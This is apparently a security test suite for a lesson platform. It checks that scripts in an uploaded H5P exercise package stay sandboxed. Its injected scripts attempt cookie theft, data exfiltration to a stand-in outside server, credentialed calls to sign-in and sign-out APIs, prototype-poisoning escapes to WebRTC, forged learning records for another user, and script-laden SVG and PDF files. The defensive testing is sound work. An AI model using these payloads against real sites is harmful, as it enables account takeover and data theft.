/** What a package that means harm can do from its frame in a lesson: nothing to the reader, the site, other packages or the network. */
import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Frame, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from 'vitest'
import { accountKey } from '../../server/services/people/ids.ts'
import { openBrowser, type Visitor } from '../support/browser.ts'
import { frameIn, inPlaceOf, practised, practisedPath } from '../support/exercises.ts'
import { browserOf } from '../support/journeys.ts'
import { database, PASSWORD, signedUp, signUpFields, type Sample } from '../support/people.ts'

/** Runs in the frame; what it returns by name is what the test sees. */
const hostile = (attempts: string) => `
window.Sample = { Button: class extends H5P.EventDispatcher {
  constructor(params, id) { super(); this.contentId = id }
  attach($container) {
    const wait = ms => new Promise(done => setTimeout(done, ms))
    const attempt = async (act) => { try { return await act() } catch (error) { return 'refused: ' + error.name } }
    const button = document.createElement('button')
    button.textContent = 'Poskusi'
    button.addEventListener('click', async () => {
      const tried = {}
      const add = async (name, act) => { tried[name] = await attempt(act) }
      ${attempts}
      window.tried = tried
    })
    $container.get(0).append(button)
    this.setActivityStarted()
  }
} }`

const exercise = practised.exerciseIds[0]!
let browser: Browser
let unlike: Browser | null = null
let back: (() => Promise<void>) | null = null
let reader: Visitor
let ana: Sample
/** Somebody else's machine, and what it was asked for. */
let elsewhere: Server
let reached: string[] = []
let other: string

beforeAll(async () => {
  browser = await openBrowser()
  elsewhere = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`)
    response.setHeader('access-control-allow-origin', '*')
    response.end('window.fromElsewhere = true')
  }).listen(0, '127.0.0.1')
  await once(elsewhere, 'listening')
  other = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
  ana = await signedUp()
})

afterAll(async () => {
  await browser.close()
  await unlike?.close()
  elsewhere.close()
})

afterEach(async () => {
  await back?.()
  back = null
  await reader.close()
  reached = []
})

/** A browser whose frames may load from this machine although a test answered for their page, which is then from nowhere. */
async function withoutTypes(): Promise<Browser> {
  unlike ??= await openBrowser(['--disable-features=LocalNetworkAccessChecks'])
  return unlike
}

/** Opens the lesson as Ana with that script in its exercise, and lets it try. */
async function tryAll(attempts: string): Promise<{ page: Page, frame: Frame, tried: Record<string, unknown> }> {
  back = await inPlaceOf(exercise, { script: hostile(attempts) })
  reader = await browserOf(browser, ana)
  const { page } = reader
  await reader.visit(practisedPath('sl'))
  const frame = await frameIn(page, exercise)
  await frame.getByRole('button', { name: 'Poskusi' }).click()
  await expect.poll(() => frame.evaluate('typeof tried'), { timeout: 30_000 }).toBe('object')
  return { page, frame, tried: await frame.evaluate('tried') as Record<string, unknown> }
}

const refused = expect.stringMatching(/^refused: /)
const site = inject('baseUrl')

describe('a script inside a package', () => {
  it('reads no cookies', async () => {
    const { page, tried } = await tryAll(`
      await add('cookies', () => document.cookie)
      await add('a cookie of its own', () => { document.cookie = 'planted=1; path=/'; return document.cookie })
      await add('the store of cookies', () => cookieStore.getAll())`)
    expect(tried).toEqual({ 'cookies': refused, 'a cookie of its own': refused, 'the store of cookies': refused })
    expect((await page.context().cookies()).map(({ name }) => name)).toEqual(['tcm'])
  })

  it('reads nothing of the page above it, nor changes it', async () => {
    const { page, tried } = await tryAll(`
      await add('its document', () => parent.document.body.innerHTML)
      await add('its address', () => parent.location.href)
      await add('its storage', () => parent.localStorage.length)
      await add('its program', () => parent.useNuxtApp())
      await add('the top', () => top.document.title)
      await add('a name', () => { parent.planted = 1 })
      await add('the element that it is in', () => String(window.frameElement))
      await add('who opened it', () => String(window.opener))`)
    expect(tried).toEqual({
      'its document': refused, 'its address': refused, 'its storage': refused, 'its program': refused, 'the top': refused, 'a name': refused,
      'the element that it is in': 'null', 'who opened it': 'null',
    })
    expect(await page.evaluate('typeof planted')).toBe('undefined')
  })

  it('reaches no storage, neither the site’s nor one of its own', async () => {
    const { page, frame, tried } = await tryAll(`
      localStorage.setItem('planted', '1')
      await add('what the site keeps', () => Object.keys(localStorage).join() + localStorage.getItem('tcm:planted'))
      await add('a real one', () => Storage.prototype.getItem.call(localStorage, 'tcm:planted'))
      await add('of a frame', () => { const frame = document.createElement('iframe'); document.body.append(frame); return frame.contentWindow.localStorage.length })
      await add('a database', () => new Promise((done, fail) => { const open = indexedDB.open('planted'); open.onsuccess = () => done('opened'); open.onerror = () => fail(open.error) }))
      await add('caches', () => caches.open('planted').then(() => 'opened'))
      await add('a worker of the site', () => navigator.serviceWorker.getRegistrations().then(all => all.length))
      await add('a file system', () => navigator.storage.getDirectory().then(() => 'opened'))`)
    expect(tried).toMatchObject({
      'a real one': refused, 'of a frame': refused, 'a database': refused, 'caches': refused, 'a worker of the site': refused, 'a file system': refused,
    })
    expect(String(tried['what the site keeps'])).not.toContain('tcm')
    expect(await page.evaluate('localStorage.getItem("planted")')).toBeNull()
    // The one that it sees is its own, and gone with the frame.
    expect(await frame.evaluate('localStorage.getItem("planted")')).toBe('1')
  })

  it('leads the page nowhere, and opens no windows', async () => {
    const { page, tried } = await tryAll(`
      await add('the top by its address', () => { top.location = '${other}/top' })
      await add('the top by a link', () => { const link = document.createElement('a'); link.href = '${other}/link'; link.target = '_top'; document.body.append(link); link.click() })
      await add('the top by a form', () => { const form = document.createElement('form'); form.action = '${other}/form'; form.target = '_top'; document.body.append(form); form.submit() })
      await add('a window', () => String(window.open('${other}/window')))
      await add('a link to a window', () => { const link = document.createElement('a'); link.href = '${other}/blank'; link.target = '_blank'; document.body.append(link); link.click() })
      await add('the page’s history', () => { history.back() })
      await add('a script address', () => { top.location = 'javascript:window.planted = 1' })
      await wait(500)`)
    expect(tried).toMatchObject({ 'the top by its address': refused, 'a script address': refused, 'a window': 'null' })
    expect(page.context().pages()).toHaveLength(1)
    expect(new URL(page.url()).pathname).toBe(practisedPath('sl'))
    expect(reached).toEqual([])
    expect(await page.evaluate('typeof planted')).toBe('undefined')
  })

  it.each([
    // Of other machines a browser tells no more than which it was.
    ['another machine', () => ({ path: `${other}/itself`, told: other })],
    ['a page of the site', () => ({ path: `${site}/odjava`, told: `${site}/odjava` })],
  ])('does not lead itself to %s', async (_where, addressOf) => {
    const { page, frame } = await tryAll('')
    await page.evaluate(`window.stopped = []; addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => stopped.push(effectiveDirective + ' ' + blockedURI))`)
    const { path, told } = addressOf()
    await frame.evaluate(`location.href = '${path}'`)
    await expect.poll(() => page.evaluate('stopped')).toEqual([`frame-src ${told}`])
    expect(reached).toEqual([])
    expect(page.frames().map(one => one.url())).not.toContain(path)
    expect(new URL(page.url()).pathname).toBe(practisedPath('sl'))
  })

  it('sends nothing anywhere, by whatever way', async () => {
    const { tried } = await tryAll(`
      const put = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields))
      await add('fetch', () => fetch('${other}/fetch').then(answer => answer.status))
      await add('fetch without reading', () => fetch('${other}/no-cors', { mode: 'no-cors' }).then(() => 'sent'))
      await add('a request', () => new Promise((done, fail) => { const request = new XMLHttpRequest(); request.open('GET', '${other}/request'); request.onload = () => done('sent'); request.onerror = () => fail(new TypeError()); request.send() }))
      await add('a socket', () => new Promise((done, fail) => { const socket = new WebSocket('${other.replace('http', 'ws')}/socket'); socket.onopen = () => done('opened'); socket.onerror = () => fail(new TypeError()) }))
      await add('a stream', () => new Promise((done, fail) => { const stream = new EventSource('${other}/stream'); stream.onopen = () => done('opened'); stream.onerror = () => fail(new TypeError()) }))
      navigator.sendBeacon('${other}/beacon', 'x')
      put('img', { src: '${other}/picture' })
      put('video', { src: '${other}/film', autoplay: true })
      put('script', { src: '${other}/script.js' })
      put('link', { rel: 'stylesheet', href: '${other}/style.css' })
      put('link', { rel: 'prefetch', href: '${other}/prefetch' })
      put('link', { rel: 'preload', as: 'image', href: '${other}/preload' })
      put('object', { data: '${other}/object' })
      put('embed', { src: '${other}/embed' })
      put('iframe', { src: '${other}/frame' })
      put('style', { textContent: '@import "${other}/import.css"; body { background: url(${other}/background) } @font-face { font-family: x; src: url(${other}/font) } * { font-family: x }' })
      const link = document.createElement('a'); link.href = '#x'; link.ping = '${other}/ping'; document.body.append(link); link.click()
      await add('a worker', () => new Promise((done, fail) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => done('runs'); worker.onerror = () => fail(new TypeError()) }))
      await add('a module', () => import('${other}/module.js').then(() => 'runs'))
      await add('a text as a program', () => globalThis['ev' + 'al']('"runs"'))
      await add('another one', () => (() => {}).constructor('return "runs"')())
      await wait(1500)`)
    expect(tried).toEqual(Object.fromEntries(Object.keys(tried).map(name => [name, refused])))
    expect(Object.keys(tried)).toHaveLength(9)
    expect(reached).toEqual([])
  })

  it('calls nothing of the site: not what a reader may call, not sign-up, not sign-in', async () => {
    const sent = signUpFields({ email: `planted-${Date.now()}@example.org` })
    const body = JSON.stringify(sent)
    const signIn = JSON.stringify({ email: ana.email, password: PASSWORD })
    const db = await database()
    const { page, tried } = await tryAll(`
      const post = (path, body, type) => fetch('${site}' + path, { method: 'POST', credentials: 'include', headers: { 'content-type': type }, body }).then(answer => answer.status)
      const form = (path, fields, target) => {
        const form = Object.assign(document.createElement('form'), { method: 'post', action: '${site}' + path, target })
        for (const [name, value] of Object.entries(fields)) form.append(Object.assign(document.createElement('input'), { name, value }))
        document.body.append(form)
        form.submit()
      }
      await add('who is it', () => fetch('${site}/api/me', { credentials: 'include' }).then(answer => answer.text()))
      await add('who is it, by its own name', () => fetch('/api/me').then(answer => answer.text()))
      await add('sign-up', () => post('/api/sign-up', ${JSON.stringify(body)}, 'application/json'))
      await add('sign-up without asking first', () => post('/api/sign-up', ${JSON.stringify(new URLSearchParams(sent).toString())}, 'application/x-www-form-urlencoded'))
      await add('sign-in', () => post('/api/sign-in', ${JSON.stringify(signIn)}, 'application/json'))
      await add('sign-out', () => post('/api/sign-out', '', 'text/plain'))
      await add('by a form', () => form('/api/sign-up', ${body}, '_self'))
      await add('by a form for the page', () => form('/api/sign-out', {}, '_top'))
      navigator.sendBeacon('${site}/api/sign-out')
      document.body.append(Object.assign(new Image(), { src: '${site}/api/me' }))
      document.body.append(Object.assign(document.createElement('script'), { src: '${site}/api/me' }))
      await wait(1000)`)
    for (const name of ['who is it', 'who is it, by its own name', 'sign-up', 'sign-up without asking first', 'sign-in', 'sign-out']) expect(tried[name], name).toEqual(refused)
    expect(await db.collection('mails').countDocuments({ to: sent.email })).toBe(0)
    expect(await db.collection('sessions').countDocuments({ person: ana.id })).toBe(1)
    expect(await db.collection('people').countDocuments({ email: sent.email })).toBe(0)
    expect((await ana.client.get('/api/me')).status).toBe(200)
    expect(new URL(page.url()).pathname).toBe(practisedPath('sl'))
  })

  it('reads no other package, though it knows where it is', async () => {
    const { frame } = await ana.client.get(`/api/exercises/${exercise}`).then(answer => answer.json()) as { frame: string }
    // The address of another version, as its own reader would have it.
    const putBack = await inPlaceOf(exercise, { content: { secret: 'of another package' }, h5p: { title: 'Tuj paket' } })
    const { frame: foreign } = await ana.client.get(`/api/exercises/${exercise}`).then(answer => answer.json()) as { frame: string }
    await putBack()
    const files = `${site}${foreign.split('?')[0]!.replace('/h5p/play/', '/h5p-assets/')}`
    expect((await fetch(`${files}/content/content.json`)).status).toBe(200)
    expect(foreign).not.toBe(frame)
    const { tried } = await tryAll(`
      const load = (tag, fields) => new Promise((done, fail) => { const element = Object.assign(document.createElement(tag), fields); element.onload = () => done('loaded'); element.onerror = () => fail(new TypeError()); document.body.append(element) })
      await add('its content', () => fetch('${files}/content/content.json').then(answer => answer.text()))
      await add('its script', () => load('script', { src: '${files}/Sample.Button-1.1/button.js' }))
      await add('its style', () => load('link', { rel: 'stylesheet', href: '${files}/Sample.Button-1.1/button.css' }))
      await add('its picture', () => load('img', { src: '${files}/content/images/square.png' }))
      await add('by a detour', () => fetch(location.pathname.replace('/h5p/play/', '/h5p-assets/') + '/../${files.split('/').at(-1)!}/content/content.json').then(answer => answer.text()))
      await add('its own', () => fetch(location.pathname.replace('/h5p/play/', '/h5p-assets/') + '/content/content.json').then(answer => answer.status))`)
    expect(tried).toEqual({ 'its content': refused, 'its script': refused, 'its style': refused, 'its picture': refused, 'by a detour': refused, 'its own': 200 })
  })

  it.each([true, false])('has no WebRTC, nor gets it from a document of its making (a browser that knows trusted types: %s)', async (knowsTypes) => {
    const child = `location.pathname.replace('/h5p/play/', '/h5p-assets/') + '/Sample.Button-1.1/child.js'`
    const script = hostile(`
      const markup = '<iframe srcdoc="&lt;script src=' + new URL(${child}, location.href) + '&gt;&lt;/script&gt;"></iframe>'
      const inside = '<script src="' + new URL(${child}, location.href) + '"></scr' + 'ipt>'
      const xml = ${child}.replace('child.js', 'frame.xml')
      // It spoils what the frame was made safe with.
      const spoilt = [
        [String.prototype, 'includes', () => false], [String.prototype, 'indexOf', () => -1], [String.prototype, 'toLowerCase', () => ''], [String.prototype, 'replace', () => markup],
        [RegExp.prototype, Symbol.replace, text => text], [Array.prototype, 'forEach', () => {}], [Array.prototype, Symbol.iterator, function* () {}],
        [Function.prototype, 'call', () => {}], [Function.prototype, 'apply', () => {}], [Reflect, 'apply', () => {}],
        [Element.prototype, 'remove', () => {}], [Document.prototype, 'querySelector', () => null], [DocumentFragment.prototype, 'querySelector', () => null],
        [MutationObserver.prototype, 'observe', () => {}], [Object.prototype, 'attributeFilter', []], [Object.prototype, 'clonable', true],
      ]
      const { defineProperty, getOwnPropertyDescriptor, deleteProperty } = Reflect
      const whole = []
      for (let n = 0; n < spoilt.length; n += 1) {
        const one = spoilt[n]
        whole[n] = getOwnPropertyDescriptor(one[0], one[1])
        defineProperty(one[0], one[1], { value: one[2], configurable: true, writable: true })
      }
      defineProperty(MutationRecord.prototype, 'addedNodes', { get: () => [] })
      await add('itself', () => [typeof RTCPeerConnection, typeof webkitRTCPeerConnection, 'RTCPeerConnection' in window].join())
      await add('a blank frame', () => { const frame = document.createElement('iframe'); document.body.append(frame); return typeof frame.contentWindow.RTCPeerConnection })
      await add('a text', () => { const frame = document.createElement('iframe'); frame.srcdoc = inside; document.body.append(frame) })
      await add('an attribute', () => { const frame = document.createElement('iframe'); frame.setAttribute('SRCDOC', inside); document.body.append(frame) })
      await add('an attribute afterwards', () => { const frame = document.createElement('iframe'); document.body.append(frame); frame.setAttribute('srcdoc', inside) })
      await add('an attribute of its own', () => { const frame = document.createElement('iframe'); const attribute = document.createAttribute('srcdoc'); attribute.value = inside; frame.setAttributeNode(attribute); document.body.append(frame) })
      await add('markup', () => { const box = document.createElement('div'); document.body.append(box); box.innerHTML = markup })
      await add('markup beside', () => { document.body.insertAdjacentHTML('beforeend', markup) })
      await add('a template', () => { const template = document.createElement('template'); template.innerHTML = markup; document.body.append(template.content.cloneNode(true)) })
      await add('a fragment', () => { document.body.append(document.createRange().createContextualFragment(markup)) })
      await add('another document', () => { document.body.append(document.adoptNode(new DOMParser().parseFromString(markup, 'text/html').querySelector('iframe'))) })
      await add('markup unsafely', () => { document.body.setHTMLUnsafe('<div><template shadowrootmode="closed">' + markup + '</template></div>') })
      await add('a closed root', () => { const host = document.createElement('div'); document.body.append(host); const root = host.attachShadow({ mode: 'closed' }); root.innerHTML = markup; const frame = document.createElement('iframe'); frame.setAttribute('srcdoc', inside); root.append(frame) })
      await add('a copy of a closed root', () => { const host = document.createElement('div'); const root = host.attachShadow({ mode: 'closed', clonable: true }); const frame = document.createElement('iframe'); frame.setAttribute('srcdoc', inside); root.append(frame); document.body.append(host.cloneNode(true)) })
      await add('a text made for another place', () => { const frame = document.createElement('iframe'); frame.srcdoc = trustedTypes.defaultPolicy.createHTML(inside, '', ''); document.body.append(frame) })
      await add('an unsafe document', () => { document.body.append(document.adoptNode(Document.parseHTMLUnsafe('<div><template shadowrootmode="closed">' + markup + '</template></div>').body.firstChild)) })
      await add('a root unsafely', () => { const host = document.createElement('div'); document.body.append(host); host.attachShadow({ mode: 'closed' }).setHTMLUnsafe('<div><template shadowrootmode="closed">' + markup + '</template></div>') })
      await add('a file', () => new Promise((done, fail) => { const request = new XMLHttpRequest(); request.open('GET', xml); request.overrideMimeType('text/xml'); request.onload = () => { try { document.body.append(document.adoptNode(request.responseXML.documentElement)); done() } catch (error) { fail(error) } }; request.send() }))
      await add('a file as a document', () => new Promise((done, fail) => { const request = new XMLHttpRequest(); request.open('GET', xml); request.overrideMimeType('text/html'); request.responseType = 'document'; request.onload = () => { try { document.body.append(document.adoptNode(request.response.querySelector('iframe'))); done() } catch (error) { fail(error) } }; request.send() }))
      await add('a file as something else at first', () => new Promise((done, fail) => { let asked = 0; const request = new XMLHttpRequest(); request.open('GET', xml); request.overrideMimeType('text/html'); request.responseType = { toString: () => (asked += 1) > 0 && 'document' }; request.onload = () => { try { document.body.append(document.adoptNode(request.response.querySelector('iframe'))); done() } catch (error) { fail(error) } }; request.send() }))
      await add('a sheet of styles', () => new XSLTProcessor())
      await add('a window', () => typeof window.open('').RTCPeerConnection)
      await wait(1500)
      // At last: it clears the page.
      await add('markup that is written', () => { document.write(markup + '<div><template shadowrootmode="closed">' + markup + '</template></div>') })
      await wait(1500)
      for (let n = 0; n < spoilt.length; n += 1) {
        if (whole[n]) defineProperty(spoilt[n][0], spoilt[n][1], whole[n])
        else deleteProperty(spoilt[n][0], spoilt[n][1])
      }
      parent.postMessage('tried', '*')`)
    const tells = 'window.top.postMessage("child " + typeof RTCPeerConnection, "*")'
    back = await inPlaceOf(exercise, {
      script,
      files: {
        'Sample.Button-1.1/child.js': tells,
        'Sample.Button-1.1/frame.xml': `<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;p&gt;in a file&lt;/p&gt;"/>`,
      },
    })
    reader = await browserOf(knowsTypes ? browser : await withoutTypes(), ana)
    const { page } = reader
    if (!knowsTypes) {
      await page.addInitScript('if (window !== top) delete window.trustedTypes')
      await page.route('**/h5p/play/**', async (route) => {
        const answer = await route.fetch()
        const policy = answer.headers()['content-security-policy']!.split('; ').filter(line => !line.includes('trusted-types')).join('; ')
        await route.fulfill({ body: await answer.body(), headers: { 'content-type': 'text/html; charset=utf-8', 'content-security-policy': policy } })
      })
    }
    await reader.visit(practisedPath('sl'))
    await page.evaluate('window.heard = []; addEventListener("message", ({ data }) => { if (typeof data === "string") heard.push(data) })')
    const frame = await frameIn(page, exercise)
    await frame.getByRole('button', { name: 'Poskusi' }).click()
    // What it spoils is spoilt for what a test asks in the frame, too; so the page above is asked.
    await expect.poll(() => page.evaluate('heard'), { timeout: 30_000 }).toContain('tried')
    expect(await page.evaluate('heard')).toEqual(['tried'])
    const tried = await frame.evaluate('tried') as Record<string, unknown>
    expect(tried).toMatchObject({
      'itself': 'undefined,undefined,false', 'a blank frame': refused, 'a text made for another place': refused, 'a file': refused, 'a file as a document': refused,
      'a file as something else at first': refused, 'a sheet of styles': refused, 'a window': refused,
    })
    const unsafe = Object.fromEntries(['markup unsafely', 'an unsafe document', 'a root unsafely', 'markup that is written'].map(name => [name, refused]))
    if (!knowsTypes) expect(tried).toMatchObject(unsafe)
    expect(await frame.evaluate('[...document.querySelectorAll("iframe")].filter(one => one.hasAttribute("srcdoc")).length')).toBe(0)
  })

  it('is greeted once, however often it says hello', async () => {
    back = await inPlaceOf(exercise, { script: `
      window.told = { start: 0, ping: 0 }
      addEventListener('message', ({ data }) => { if (data.type in told) told[data.type] += 1 })
      for (let n = 0; n < 50; n += 1) parent.postMessage({ app: 'tcm-exercise', type: 'hello' }, '*')
      ${hostile('')}` })
    reader = await browserOf(browser, ana)
    await reader.visit(practisedPath('sl'))
    const frame = await frameIn(reader.page, exercise)
    const pings = () => frame.evaluate('told.ping') as Promise<number>
    const before = await pings()
    await expect.poll(pings).toBeGreaterThan(before)
    expect(await frame.evaluate('told.start')).toBe(0)
    expect(await pings()).toBeLessThan(10)
  })

  it('says nothing in the name of another person', async () => {
    const bor = await signedUp()
    const statement = (name: string) => `{
      actor: { account: { homePage: '${site}', name: '${name}' } },
      verb: { id: 'http://adlnet.gov/expapi/verbs/completed' }, object: { id: 'urn:another' },
      result: { score: { raw: 7, max: 7, min: 0, scaled: 1 } }, timestamp: '2020-01-01T00:00:00Z' }`
    const event = `{ id: crypto.randomUUID(), verb: 'scored', lesson: '${practised.uid}', lang: 'sl', at: new Date().toISOString(), exercise: { name: '${exercise}', version: '${'a'.repeat(64)}', verb: 'completed', result: { raw: 7, max: 7 } } }`
    const { page, tried } = await tryAll(`
      const say = more => parent.postMessage({ app: 'tcm-exercise', ...more }, '*')
      say({ type: 'xapi', as: '${accountKey(bor.id)}', learner: '${bor.id}', statement: ${statement(bor.id)} })
      say({ type: 'xapi', statement: { ...${statement(bor.id)}, result: { score: { raw: 9e99, max: 1 } } } })
      say({ type: 'state', learner: '${bor.id}', state: { 0: { state: '{"planted":1}' } } })
      say({ type: 'events', events: [${event}] })
      await add('to the server', () => fetch('${site}/api/events', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ as: '${accountKey(bor.id)}', events: [${event}] }) }).then(answer => answer.status))
      navigator.sendBeacon('${site}/api/events', new Blob([JSON.stringify({ as: '${accountKey(bor.id)}', events: [${event}] })], { type: 'text/plain' }))
      await wait(500)`)
    expect(tried).toEqual({ 'to the server': refused })
    const events = (await database()).collection('events')
    await expect.poll(() => events.countDocuments({ 'learner': ana.id, 'verb': 'scored', 'data.exercise.name': exercise })).toBe(1)
    const [told] = await events.find({ 'learner': ana.id, 'verb': 'scored', 'data.exercise.name': exercise }).toArray()
    // Forged for herself it may be: it is practice, and what it claims of others is not taken.
    expect(JSON.stringify(told)).not.toContain(bor.id)
    expect(told!.at.getTime()).toBeGreaterThan(Date.now() - 120_000)
    expect(await events.countDocuments({ learner: bor.id })).toBe(0)
    await page.goto('about:blank')
    expect(await (await database()).collection('exerciseStates').countDocuments({ learner: bor.id })).toBe(0)
  })
})

describe('a file of a package that is opened directly', () => {
  it.each([
    ['a drawing', 'Sample.Button-1.1/drawing.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>window.planted = 1</script></svg>'],
    ['a page that calls itself data', 'Sample.Button-1.1/page.xml', '<html xmlns="http://www.w3.org/1999/xhtml"><script>window.planted = 1</script></html>'],
    ['a document', 'content/files/sheet.pdf', '%PDF-1.4 <script>window.planted = 1</script>'],
    ['a page that calls itself a text', 'content/files/page.txt', '<!DOCTYPE html><script>window.planted = 1</script>'],
  ])('%s is saved and does not run', async (_what, path, data) => {
    back = await inPlaceOf(exercise, { files: { [path]: data } })
    reader = await browserOf(browser, ana)
    const { page } = reader
    const { frame } = await ana.client.get(`/api/exercises/${exercise}`).then(answer => answer.json()) as { frame: string }
    const address = `${site}${frame.split('?')[0]!.replace('/h5p/play/', '/h5p-assets/')}/${path}`
    const download = page.waitForEvent('download')
    await page.goto(address).catch((error: Error) => expect(error.message).toMatch(/Download is starting|ERR_ABORTED/))
    expect((await download).suggestedFilename()).toBe(path.split('/').at(-1))
    expect(await page.evaluate('typeof planted')).toBe('undefined')
  })

  it('a picture, a script or JSON is shown and does nothing', async () => {
    back = await inPlaceOf(exercise, { content: { text: 'a text' } })
    reader = await browserOf(browser, ana)
    const { page } = reader
    const { frame } = await ana.client.get(`/api/exercises/${exercise}`).then(answer => answer.json()) as { frame: string }
    for (const path of ['content/images/square.png', 'content/content.json', 'Sample.Button-1.1/button.js']) {
      await page.goto(`${site}${frame.split('?')[0]!.replace('/h5p/play/', '/h5p-assets/')}/${path}`)
      expect(await page.evaluate('[typeof planted, self.origin, document.scripts.length].join()'), path).toBe('undefined,null,0')
    }
  })

  it('a page is in no package', async () => {
    reader = await browserOf(browser, ana)
    const { client } = await signedUp('trainer')
    const { packageOf } = await import('../support/packages/package.ts')
    const answer = await client.upload('/api/trainer/exercises', { bytes: packageOf({ files: { 'Sample.Button-1.1/page.html': '<script>planted = 1</script>' } }) })
    expect(answer.status).toBe(422)
    expect(await answer.text()).toContain('page.html')
  })
})
